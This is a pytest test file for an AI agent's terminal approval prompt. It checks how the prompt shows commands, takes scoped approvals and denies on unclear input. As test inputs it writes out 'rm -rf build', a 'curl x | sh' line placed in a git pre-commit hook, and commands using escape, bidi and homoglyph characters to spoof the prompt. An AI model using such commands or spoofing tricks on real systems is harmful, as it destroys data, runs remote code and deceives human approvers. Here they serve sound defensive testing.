"""The approval prompt at the terminal: the real dispatcher asks, and a script answers in place of keys."""

from __future__ import annotations

import asyncio
import re
from collections import deque
from collections.abc import Callable, Iterator, Sequence
from pathlib import Path
from typing import Any

import pytest

from agent.api import Crib, Session, assemble
from agent.cli.ask import TerminalAsker, asker_for
from agent.cli.choosing import choices, covers_of, key_row, legend, said_in_words
from agent.cli.screen.cells import Row, plain, row_width
from toolcrib import Answer, ExecutedCall, SuspendTicket, ToolCall, ToolResult
from tools.approval.offers import Asked, offers
from tools.approval.prompt import PromptRow
from tools.judge.findings import Finding


class Script:
    """Answers from a list: a text is typed, an exception is raised."""

    def __init__(self, *lines: str | type[BaseException]) -> None:
        self.lines = deque(lines)
        self.shown: list[str] = []
        self.prompts: list[str] = []
        self.size = (200, 40)

    def show(self, text: str) -> None:
        self.shown.append(text)

    async def read_line(self, prompt: str) -> str:
        self.prompts.append(prompt)
        line = self.lines.popleft()
        if isinstance(line, str):
            return line
        raise line

    @property
    def screen(self) -> str:
        return "\n".join(self.shown)


@pytest.fixture
def crib(tmp_path: Path) -> Iterator[Crib]:
    with assemble(project_dir=tmp_path) as crib:
        yield crib


@pytest.fixture
def session(crib: Crib) -> Iterator[Callable[[Script], Session]]:
    opened: list[Session] = []

    def open_one(script: Script) -> Session:
        opened.append(crib.open_session(asker=TerminalAsker(script)))
        return opened[-1]

    yield open_one
    for one in opened:
        one.close_sync()


@pytest.fixture
def delete(session: Callable[[Script], Session], tmp_path: Path) -> Callable[[Script], ExecutedCall]:
    def run(script: Script, command: str = "rm -rf build") -> ExecutedCall:
        (tmp_path / "build").mkdir(exist_ok=True)
        return session(script).call("terminal", {"command": command})

    return run


Delete = Callable[..., ExecutedCall]


def test_the_question_shows_what_where_and_why(delete: Delete, tmp_path: Path) -> None:
    script = Script("?", "o")
    assert delete(script).result.is_success
    assert not (tmp_path / "build").exists()
    assert "terminal wants to run:\n  │ rm -rf build\n" in script.screen
    assert f"  in {tmp_path}" in script.screen
    assert "fs.recursive-delete" in script.screen
    assert script.prompts == 2 * ["  [o]nce  [p]ath  [s]ession  [u]ses  [m]inutes  [a]lways  [d]eny  ? > "]
    assert (
        f"  s    fs.recursive-delete, anywhere below {tmp_path}, in this session, also when it is resumed, until you revoke it"
        in script.screen
    )
    assert (
        f"  p    fs.recursive-delete, of {tmp_path}/build only, in this session, also when it is resumed, until you revoke it"
        in script.screen
    )
    assert f"  a    `rm -rf build` in {tmp_path}, permanently, in every session" in script.screen


@pytest.mark.parametrize("unclear", ["", "y", "yes", "ok", "once please", "x", "al", "O S"])
def test_what_is_unclear_is_asked_again(delete: Delete, tmp_path: Path, unclear: str) -> None:
    script = Script(unclear, EOFError)
    assert not delete(script).result.is_success
    assert len(script.prompts) == 2
    assert (f"  {unclear!r} is not an answer; ? lists the answers" in script.screen) == bool(unclear)
    assert (tmp_path / "build").exists()


@pytest.mark.parametrize("end", [EOFError, KeyboardInterrupt])
def test_the_end_of_input_and_ctrl_c_deny(delete: Delete, tmp_path: Path, end: type[BaseException]) -> None:
    """003-28"""
    for script in (Script(end), Script("?", end)):
        executed = delete(script)
        assert executed.result.failure is not None
        assert executed.result.failure.kind == "Denied"
        assert "instead of answering" in str(executed.result.message)
    assert (tmp_path / "build").exists()


def test_a_denial_may_have_a_reason(delete: Delete) -> None:
    assert "wrong folder" in str(delete(Script("d wrong folder")).result.message)
    assert "wrong folder" in str(delete(Script("deny wrong folder")).result.message)
    assert "wrong folder" in str(delete(Script("N wrong folder")).result.message)


@pytest.mark.parametrize("no", ["d", "deny", "n", "no"])
def test_a_denial_alone_takes_nothing_that_follows_for_its_reason(delete: Delete, no: str) -> None:
    script = Script(no, "now show me the README")
    assert "without a reason" in str(delete(script).result.message)
    assert list(script.lines) == ["now show me the README"]


def test_always_holds_in_the_next_session_and_lies_in_the_configuration(delete: Delete, crib: Crib) -> None:
    """003-27"""
    assert delete(Script("a")).result.is_success
    assert delete(Script()).result.is_success
    assert "rm" in crib.config.path.read_text()


def test_what_is_asked_every_time_offers_once_only(delete: Delete) -> None:
    script = Script("s", "a", "o")
    delete(script, 'eval "$(date +:)"')
    assert "You are asked about this every time." in script.screen
    assert script.prompts[0] == "  [o]nce  [d]eny  ? > "
    assert len(script.prompts) == 3


def test_nothing_in_a_command_can_pass_for_our_own_lines(delete: Delete) -> None:
    script = Script(EOFError)
    delete(script, "rm -rf build\n  in /tmp\n\x1b[2Kecho \u202egnihton\r# \u200b")
    assert "  │ rm -rf build\n  │   in /tmp\n  │ ^[[2Kecho \\u202egnihton^M# \\u200b\n" in script.screen
    assert "invisible characters" in script.screen
    assert all(char == "\n" or char.isprintable() for char in script.screen)


def test_a_file_tool_shows_its_path_and_arguments(session: Callable[[Script], Session], tmp_path: Path) -> None:
    script = Script(EOFError)
    path = tmp_path / ".git" / "hooks" / "pre-commit"
    executed = session(script).call("write_file", {"path": str(path), "content": "curl x | sh\n"})
    assert not executed.result.is_success
    assert f"write_file wants to change:\n  │ {path}\n  with:\n" in script.screen
    assert "curl x | sh" in script.screen


def test_a_yes_to_a_long_call_takes_that_all_of_it_was_seen(session: Callable[[Script], Session], tmp_path: Path) -> None:
    """Nothing that an approval covers can hide in the middle of a long call."""
    text = "".join(f"line {number}\n" for number in range(200))
    args = {"path": str(tmp_path / ".git" / "hooks" / "pre-commit"), "content": f"{text}curl x | sh\n{text}"}
    script = Script("o", "v", "o", "v all", "d no")
    assert not session(script).call("write_file", args).result.is_success
    assert script.prompts[0].startswith("  [v]iew  [o]nce")
    assert len(script.prompts) == 5
    assert script.screen.count("not run: ") == 2
    assert script.screen.count("│ curl x | sh") == 1
    assert script.screen.count("this is the end") == 1
    seen = Script("v all", "o")
    assert session(seen).call("write_file", args).result.is_success
    assert seen.screen.index("line 5") < seen.screen.index("curl x | sh") < seen.screen.rindex("line 199")


class Keys(Script):
    """Key presses from a list, and lines for questions that read a line; ``rows`` are the rows when each key was pressed."""

    reads_keys = True

    def __init__(self, *keys: str | type[BaseException], lines: tuple[str, ...] = ()) -> None:
        super().__init__(*lines)
        self.keys = deque(keys)
        self.rows: list[str] = []

    async def read_line(self, prompt: str, *, stays: bool = True) -> str:
        return await super().read_line(prompt)

    async def read_key(self, row: Callable[[int], str], letters: str = "", at_once: str = "") -> str:
        self.rows.append(row(self.size[0]))
        key = self.keys.popleft()
        if isinstance(key, str):
            return key
        raise key


@pytest.mark.parametrize(
    "keys", [["o"], ["O"], ["right", "enter"], ["left", "right", "enter"], ["enter", "x", "esc", "paste of o", "o"]]
)
def test_a_letter_answers_or_what_the_arrows_reached(delete: Delete, tmp_path: Path, keys: list[str]) -> None:
    script = Keys(*keys)
    assert delete(script).result.is_success
    assert not (tmp_path / "build").exists()
    assert script.prompts == []


def test_enter_alone_never_answers(delete: Delete, tmp_path: Path) -> None:
    """Nothing is selected until the user presses an arrow key; showing the help or a page clears the selection."""
    for keys in (["enter"] * 9, ["right", "?", "enter"], ["down", "?", "enter", "enter"]):
        script = Keys(*keys, EOFError)
        assert not delete(script).result.is_success
        assert (tmp_path / "build").exists()
        assert not script.keys
    assert "  o    this call only" in script.screen


def test_an_enter_that_confirms_nothing_says_so_once(delete: Delete) -> None:
    script = Keys("enter", "enter", "enter", "o")
    assert delete(script).result.is_success
    assert script.screen.count("nothing is selected: use the arrows, then Enter; or press a letter") == 1


def _offered() -> dict[str, str]:
    """Return the texts that the approval gate offers."""
    found = Finding("fs.recursive-delete", "ask", "deletes folders", "rm -rf build", paths=("/p/build",))
    return offers(Asked("s", "", "/p", "/p", "rm -rf build", [found]))


def test_a_session_s_yes_to_a_delegate_is_the_delegate_s_alone() -> None:
    covers = _offered()
    assert "in this session" in covers["session"]
    of_delegate = SuspendTicket("approve", "?", parameters={"covers": dict(covers), "delegate": {"name": "g", "task": "x"}})
    assert covers_of(of_delegate)["session"] == "fs.recursive-delete, anywhere below /p, for this delegate only, until it ends"
    assert covers_of(SuspendTicket("approve", "?", parameters={"covers": dict(covers)})) == covers


def test_arrows_go_round_and_are_shown(delete: Delete) -> None:
    script = Keys("left", "left", "enter", lines=("",))
    assert "without a reason" in str(delete(script).result.message)
    assert script.rows[0] == "  o once  p this path  s session  u uses  m minutes  a always  d deny  ? help"
    assert script.rows[1].endswith("d deny  [? help]")
    assert script.rows[2].endswith("[d deny]  ? help")


@pytest.mark.parametrize("columns", [20, 40, 60, 87, 88])
def test_the_row_of_keys_fits_the_screen(delete: Delete, columns: int) -> None:
    script = Keys("right", "d")
    script.size = (columns, 40)
    delete(script)
    assert all(len(row) < columns for row in script.rows)
    assert "o once" in script.rows[1]


class ListedKeys(Keys):
    """A screen that lists choices; ``lists`` are the lists at each key press, ``styles`` the styles of the prompt's rows."""

    lists_choices = True

    def __init__(self, *keys: str | type[BaseException], lines: tuple[str, ...] = ()) -> None:
        super().__init__(*keys, lines=lines)
        self.lists: list[list[Row]] = []
        self.styles: dict[str, str] = {}

    def show_rows(self, rows: Sequence[PromptRow]) -> None:
        self.styles |= {str(row): row.style for row in rows}
        self.show("\n".join(rows))

    async def read_choice(
        self, rows: Callable[[int], Sequence[Row]], title: Callable[[], str], letters: str, at_once: str
    ) -> str:
        self.lists.append([*rows(self.size[0])])
        return await self.read_key(lambda columns: title(), letters, at_once)


def test_choices_in_a_list_say_what_each_covers(delete: Delete, tmp_path: Path) -> None:
    script = ListedKeys("down", "down", "down", "down", "up", "up", "up", "enter")
    assert delete(script).result.is_success
    shown = [[plain(row).rstrip() for row in rows] for rows in script.lists]
    once, session, *more, deny, others = shown[0]
    assert once == "  o  Allow once        this call only, exactly as shown"
    assert session.startswith("  s  Allow in session  fs.recursive-delete, anywhere below ")
    assert " ".join([session, *map(str.strip, more)]).endswith("in this session, also when it is resumed, until you revoke it")
    assert deny == "  d  Deny              and say why"
    assert others == "     p this path · u uses · m minutes · a always · ? help"
    assert not any("→" in line or "[" in line for line in shown[0])  # no choice is marked at first
    assert shown[1][0].startswith("→ o  Allow once")
    assert shown[4][-1] == "     [p this path] · u uses · m minutes · a always · ? help"
    assert shown[7][0].startswith("→ o")
    assert script.rows[0] == "Allow this?"
    assert script.styles["terminal wants to run:"] == "head"
    assert "warn" in script.styles.values()


def test_a_letter_answers_in_a_list_too_and_enter_alone_does_not(delete: Delete, tmp_path: Path) -> None:
    for keys in (["enter"] * 5, ["down", "pasted", "enter"], ["down", "?", "enter"]):
        script = ListedKeys(*keys, EOFError)
        assert not delete(script).result.is_success
        assert (tmp_path / "build").exists()
        assert not script.keys
    assert delete(ListedKeys("o")).result.is_success


def test_an_edit_has_line_numbers_and_colours_in_a_list(session: Callable[[Script], Session], tmp_path: Path) -> None:
    file = tmp_path / ".git" / "hooks" / "pre-commit"
    file.parent.mkdir(parents=True)
    file.write_text("one\ntwo\nthree\n")
    script = ListedKeys("d", lines=("",))
    session(script).call("patch", {"path": str(file), "old": "two", "new": "2"})
    assert "1 │  one\n2 │ -two\n2 │ +2\n3 │  three\n" in script.screen
    assert (script.styles["2 │ -two"], script.styles["2 │ +2"], script.styles["1 │  one"]) == ("removed", "added", "")


@pytest.mark.parametrize("columns", [50, 60, 100, 200])
@pytest.mark.parametrize("reached", [0, 2, 5])
def test_a_list_of_choices_fits_the_screen(delete: Delete, columns: int, reached: int) -> None:
    script = ListedKeys(*["down"] * (reached + 1), "d", lines=("",))
    script.size = (columns, 40)
    delete(script)
    assert all(row_width(row) <= columns for rows in script.lists for row in rows)
    marked = [line for row in script.lists[-1] if re.search(r"→|\[\w", line := plain(row))]
    assert len(marked) == 1


def test_the_legend_of_keys_promises_no_number_that_enter_would_take() -> None:
    covers, below = _offered(), "fs.recursive-delete, anywhere below /p"
    shown = choices(["once", "uses", "until"], is_long=False)
    for letter, unit, default in (("u", "calls", 5), ("m", "minutes", 30)):
        assert f"  {letter}    {below}, for as many {unit} as you then type" in legend(shown, covers, by_key=True)
        assert f"  {letter} N  {below}, for {default} {unit} (or another number)" in legend(shown, covers, by_key=False)


@pytest.mark.parametrize(
    ("payload", "words"),
    [
        ({"scope": "uses", "uses": 2}, "for 2 calls"),
        ({"scope": "uses", "uses": 1}, "for 1 call"),
        ({"scope": "uses"}, "for 5 calls"),
        ({"scope": "until", "minutes": 90}, "for 90 minutes"),
        ({"scope": "until"}, "for 30 minutes"),
    ],
)
def test_a_receipt_says_what_was_granted(payload: dict[str, Any], words: str) -> None:
    """The receipt names the granted scope, not the number of the choice."""
    expected = f"approved: fs.recursive-delete, anywhere below /p, {words}"
    assert said_in_words({"approved": True, **payload}, _offered()) == expected


def test_a_receipt_of_another_scope_repeats_the_offer() -> None:
    covers = _offered()
    for scope in ("once", "path", "session"):
        assert said_in_words({"approved": True, "scope": scope}, covers) == f"approved: {covers[scope]}"
    assert said_in_words({"approved": False}, covers) == "denied"


def test_a_row_of_keys_loses_words_before_letters() -> None:
    keys = choices(["once", "path", "session", "uses", "until", "always"], is_long=False)
    assert key_row(keys, None, 80, "call 1 of 2").endswith("  s session  u uses  m  a  d deny  ? help")
    assert (
        key_row(choices(["once", "session", "always"], is_long=False), None, 60)
        == "  o once  s session  a always  d deny  ? help"
    )
    assert key_row(keys, None, 40, "call 1 of 2") == "  call 1 of 2  o p s u m a d ?"
    assert key_row(keys, 1, 40, "call 1 of 2") == "  o [p this path] s u m a d ?"


def test_a_denial_by_key_asks_for_a_reason(delete: Delete) -> None:
    assert "without a reason" in str(delete(Keys("d", lines=("",))).result.message)
    script = Keys("d", lines=(" wrong folder",))
    assert "the user denied it: wrong folder" in str(delete(script).result.message)
    assert "  denied" in script.screen
    assert "wrong folder" not in script.screen  # the line of the call shows the folder


def test_what_came_at_once_takes_back_what_the_arrows_reached(delete: Delete, tmp_path: Path) -> None:
    script = Keys("right", "pasted", "enter", "enter", EOFError)
    assert not delete(script).result.is_success
    assert (tmp_path / "build").exists()
    assert "ignored: several keys arrived at once" in script.screen


def test_a_number_is_typed_and_nothing_goes_back(delete: Delete, crib: Crib) -> None:
    script = Keys("u", "u", "u", "m", lines=("", "0", "many", "7"))
    assert delete(script).result.is_success
    grant = asyncio.run(crib.store.grants.all())[-1]
    assert (grant.scope, grant.until is not None) == ("until", True)


def test_a_long_call_is_seen_before_a_key_agrees(session: Callable[[Script], Session], tmp_path: Path) -> None:
    args = {"path": str(tmp_path / ".git" / "hooks" / "pre-commit"), "content": "x\n" * 200}
    script = Keys("o", "v", "o", "V", "o")
    assert session(script).call("write_file", args).result.is_success
    assert script.screen.count("not run: ") == 2
    assert "V the rest" in script.screen
    assert "[view]" not in script.rows[0]
    assert script.rows[0].startswith("  v view")


def test_a_terminal_that_reads_no_keys_reads_lines(delete: Delete) -> None:
    script = Keys(lines=("o",))
    script.reads_keys = False
    assert delete(script).result.is_success
    assert script.rows == []


@pytest.mark.parametrize("script", [Script("d"), Keys("d", lines=("",))])
@pytest.mark.parametrize("columns", [40, 80, 200])
def test_the_prompt_takes_five_lines_besides_command_and_findings(delete: Delete, script: Script, columns: int) -> None:
    script.size = (columns, 40)
    script.lines, script.shown, script.prompts = deque(["d"]), [], []
    if isinstance(script, Keys):
        script.keys = deque("d")
    delete(script, 'rm -rf build; eval "$(date +:)"')
    ours = [line for line in script.screen.split("\n") if not {*line} & {*"│↳!"} and not line.startswith("      as:")]
    rows = sum(-(-len(row) // columns) for row in [*script.prompts, *getattr(script, "rows", [])[-1:]])
    assert len(ours) - 1 + rows <= 5  # the first line introduces the quoted call


def test_several_that_wait_form_a_queue(crib: Crib) -> None:
    tickets = []
    for number in range(3):
        one = crib.open_session(suspends=True)
        parked = one.call("terminal", {"command": f"rm -rf build{number}"}).result.suspension
        assert parked is not None
        tickets.append(parked)
        one.close_sync()
    script = Script("o", "d not this one", "s")

    async def all_at_once() -> list[Answer]:
        asker = TerminalAsker(script)
        return await asyncio.gather(*map(asker, tickets))

    answers = asyncio.run(all_at_once())
    assert [one.payload["approved"] for one in answers] == [True, False, True]
    assert answers[1].payload["reason"] == "not this one"
    for number in range(3):
        assert f"rm -rf build{number}" in script.shown[number]
        assert f"  {number + 1} of 3 waiting for you" in script.shown[number]
    keys = Keys("o", "o", "d", lines=("", ""))

    async def by_key() -> None:
        asker = TerminalAsker(keys)
        await asyncio.gather(*map(asker, tickets))
        keys.keys.append("d")
        await asker(tickets[0])

    asyncio.run(by_key())
    assert [row.split("  ")[1] for row in keys.rows] == ["1 of 3", "2 of 3", "3 of 3", "o once"]


def test_an_edit_is_shown_as_a_difference(session: Callable[[Script], Session], tmp_path: Path) -> None:
    file = tmp_path / ".git" / "hooks" / "pre-commit"
    file.parent.mkdir(parents=True)
    file.write_text("one\ntwo\nthree\n")
    script = Script("d")
    session(script).call("patch", {"path": str(file), "old": "two", "new": "2"})
    assert f"patch wants to change:\n  │ {file}\n  as follows:\n  │ --- {file}\n" in script.screen
    assert "  │  one\n  │ -two\n  │ +2\n  │  three\n" in script.screen
    assert '"old"' not in script.screen
    assert file.read_text() == "one\ntwo\nthree\n"
    again = Script("d")
    session(again).call("write_file", {"path": str(file), "content": "one\ntwo\nthree\nfour\n"})
    assert "  │  three\n  │ +four\n" in again.screen
    assert "and content" not in again.screen


def test_a_short_call_needs_no_paging(delete: Delete) -> None:
    script = Script("v", "o")
    assert delete(script).result.is_success
    assert "'v' is not an answer;" in script.screen


def test_names_and_offers_draw_no_line_either(delete: Delete, tmp_path: Path) -> None:
    (tmp_path / "a\n  o    lists it, once").mkdir()
    script = Script("?", EOFError)
    delete(script, "rm -rf $'a\\n  o    lists it, once'")
    assert "      as: rm -rf a\\n  o    lists it, once" in script.screen
    assert [line for line in script.screen.split("\n") if line.startswith("  o ")] == ["  o    this call only, exactly as shown"]


def test_lines_are_broken_at_the_screens_width(delete: Delete) -> None:
    script = Script(EOFError)
    script.size = (60, 40)
    delete(script, f"rm -rf build{' ' * 38}  o    lists it, once")
    lines = script.screen.split("\n")
    assert all(len(line) < 60 for line in lines)
    assert all(line.startswith(("  │ ", "  │↳", "  ↳", "      as: rm")) for line in lines if "lists it" in line)


def test_a_platform_gets_the_same_text(crib: Crib, tmp_path: Path) -> None:
    """A chat platform shows the same lines as the terminal."""
    one, script = crib.open_session(suspends=True), Script(EOFError)
    parked = one.call("terminal", {"command": "rm -rf build\n  in /tmp \u0441at"}).result.suspension
    assert parked is not None
    asyncio.run(TerminalAsker(script)(parked))
    text = parked.parameters["prompt"]
    assert text.startswith("terminal wants to run:\n  │ rm -rf build\n  │   in /tmp \\u0441at\n")
    assert script.shown[0] == f"{text}\n  d denies at once; put a reason on the same line: d because ..."
    one.close_sync()


def test_a_question_draws_no_line_of_ours(session: Callable[[Script], Session]) -> None:
    script = Script("x")
    session(script).call("clarify", {"question": "Which?\n  [o]nce  ? >", "choices": ["a\n  2. b"]})
    assert script.shown[0] == "❓ Which?\n  │   [o]nce  ? >\n  1. a\\n  2. b"


def test_a_question_takes_a_number_or_words(session: Callable[[Script], Session]) -> None:
    ask = {"question": "Which?", "choices": ["red", "green"]}
    script = Script("", "2")
    assert session(script).call("clarify", ask).result.data == "green"
    assert "❓ Which?\n  1. red\n  2. green" in script.screen
    assert session(Script("blue")).call("clarify", ask).result.data == "blue"
    assert session(Script("3")).call("clarify", ask).result.data == "3"
    assert session(Script("because")).call("clarify", {"question": "Why?"}).result.data == "because"
    assert not session(Script(EOFError)).call("clarify", ask).result.is_success


def test_an_answer_of_another_type_is_json(crib: Crib, session: Callable[[Script], Session]) -> None:
    def handle(args: object, ctx: object) -> ToolResult:
        ticket = SuspendTicket("count", "How many?", response_schema={"type": "integer"}, resume_mode="use_as_result")
        return ToolResult.suspended_with("count", "How many?", ticket)

    crib.registry.register("count", "count", {"description": "Count."}, handle)
    script = Script("many", "12")
    assert session(script).call("count", {}).result.data == 12
    assert "Expected JSON of type integer" in script.screen


def test_asked_from_a_running_loop_it_is_the_same(session: Callable[[Script], Session], tmp_path: Path) -> None:
    (tmp_path / "build").mkdir()

    async def turn() -> list[ExecutedCall]:
        one = session(Script("o"))
        return await one.calls([ToolCall("1", "terminal", {"command": "rm -rf build"})])

    assert asyncio.run(turn())[0].result.is_success


def test_without_a_terminal_the_answer_is_no(crib: Crib, tmp_path: Path) -> None:
    one = crib.open_session(asker=asker_for(None))
    executed = one.call("terminal", {"command": "rm -rf build"})
    assert "Run it in a terminal to be asked" in str(executed.result.message)
    one.close_sync()
